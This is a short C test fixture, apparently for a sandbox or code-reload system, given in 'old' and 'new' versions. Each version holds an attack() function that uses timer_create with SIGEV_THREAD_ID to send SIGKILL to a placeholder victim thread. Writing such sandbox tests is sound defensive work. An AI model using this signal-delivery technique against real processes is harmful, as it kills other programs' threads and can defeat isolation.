//// old
#include <signal.h>
#include <string.h>
#include <sys/time.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    struct itimerval time = {{0, 1000}, {0, 1000}};
    struct sigevent event;
    int timer;
    memset(&event, 0, sizeof event);
    event.sigev_notify = SIGEV_THREAD_ID;
    event.sigev_signo = SIGKILL;
    ((int *)&event)[4] = @VICTIM@;
    signal(SIGALRM, SIG_IGN);
    syscall(SYS_setitimer, ITIMER_REAL, &time, 0);
    syscall(SYS_alarm, 1);
    syscall(SYS_timer_create, 0, &event, &timer);
    return x;
}
//// new
#include <signal.h>
#include <string.h>
#include <sys/time.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    struct itimerval time = {{0, 1000}, {0, 1000}};
    struct sigevent event;
    int timer;
    memset(&event, 0, sizeof event);
    event.sigev_notify = SIGEV_THREAD_ID;
    event.sigev_signo = SIGKILL;
    ((int *)&event)[4] = @VICTIM@;
    signal(SIGALRM, SIG_IGN);
    syscall(SYS_setitimer, ITIMER_REAL, &time, 0);
    syscall(SYS_alarm, 1);
    syscall(SYS_timer_create, 0, &event, &timer);
    return x + 1;
}
